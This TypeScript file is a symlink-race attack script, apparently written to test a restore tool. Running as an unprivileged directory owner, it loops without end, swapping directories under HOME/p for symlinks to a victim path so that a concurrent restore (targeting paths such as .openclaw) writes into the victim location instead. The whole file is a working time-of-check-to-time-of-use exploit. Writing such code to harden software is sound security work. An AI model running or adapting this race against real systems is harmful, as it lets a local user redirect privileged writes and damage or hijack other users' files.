// `node hostile-owner.ts HOME VICTIM UID`: as user UID, who owns HOME, swaps directories below HOME/p for links to VICTIM
// while somebody restores to HOME/p/ws and HOME/p/made/x/.openclaw. Runs until it is killed.
import { lstatSync, mkdirSync, readdirSync, renameSync, symlinkSync, unlinkSync } from "node:fs";

const [home = "", victim = "", uid = ""] = process.argv.slice(2);
process.setgroups!([]);
process.setgid!(Number(uid));
process.setuid!(Number(uid));
process.chdir(home);

let stolen = 0;

/** What fails, fails: the other side is moving too. */
function attempt(act: () => void): void {
  try {
    act();
  } catch {
    // next move
  }
}

function isLink(path: string): boolean {
  return lstatSync(path, { throwIfNoEntry: false })?.isSymbolicLink() === true;
}

function swap(path: string): void {
  attempt(() => {
    if (isLink(path)) return;
    renameSync(path, `stolen${(stolen += 1)}`);
    symlinkSync(victim, path);
  });
}

function reset(): void {
  attempt(() => renameSync("q", "p"));
  attempt(() => isLink("p") && unlinkSync("p"));
  attempt(() => mkdirSync("p"));
  for (const directory of [".", "p"]) {
    attempt(() => {
      const paths = readdirSync(directory).map((name) => `${directory}/${name}`);
      for (const path of paths.filter(isLink)) unlinkSync(path);
    });
  }
}

function repeat(milliseconds: number, act: () => void): void {
  const end = Date.now() + milliseconds;
  while (Date.now() < end) act();
}

function flip(): void {
  attempt(() => {
    renameSync("p", "q");
    symlinkSync(victim, "p");
  });
  attempt(() => {
    unlinkSync("p");
    renameSync("q", "p");
  });
}

const moves = [
  (): void => swap("p"),
  (): void => attempt(() => readdirSync("p").forEach((name) => swap(`p/${name}`))),
  (): void => repeat(8, () => ["p/made", "p/made/x"].forEach(swap)),
  (): void => repeat(8, flip),
];

function somethingBegan(): boolean {
  try {
    return readdirSync("p").length > 0;
  } catch {
    return false;
  }
}

for (;;) {
  reset();
  const end = Date.now() + 50;
  while (!somethingBegan() && Date.now() < end);
  const wait = process.hrtime.bigint() + BigInt(Math.floor(Math.random() * 2_000_000));
  while (process.hrtime.bigint() < wait);
  moves[Math.floor(Math.random() * moves.length)]!();
}
